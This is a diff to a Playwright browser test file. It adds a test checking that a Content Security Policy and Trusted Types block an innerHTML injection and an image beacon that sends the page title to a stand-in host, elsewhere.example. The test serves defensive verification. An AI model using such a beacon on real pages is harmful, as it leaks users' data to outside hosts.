@@ -1,6 +1,7 @@
 """Accessibility by axe, weight, the key, and what the browser itself measures."""
 
 import pytest
+from playwright.sync_api import Error
 
 from devhost.child import ROOT
 from tests.browser.conftest import names, settled, until
@@ -63,6 +64,14 @@ def test_the_browser_marks_when_results_are_painted(opened):
         ".map((name) => performance.getEntriesByName(name)[0].startTime)"
     )
     assert marks == sorted(marks)
+
+
+def test_the_policy_stops_what_a_hole_would_let_in_and_tells_of_it(opened):
+    page = settled(opened(expected="has been blocked"))
+    with pytest.raises(Error, match="TrustedHTML"):
+        page.evaluate("document.body.innerHTML = '<b>hurt</b>'")
+    with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
+        page.evaluate("new Image().src = 'https://elsewhere.example/?' + document.title")
 
 
 @pytest.fixture(scope="module")
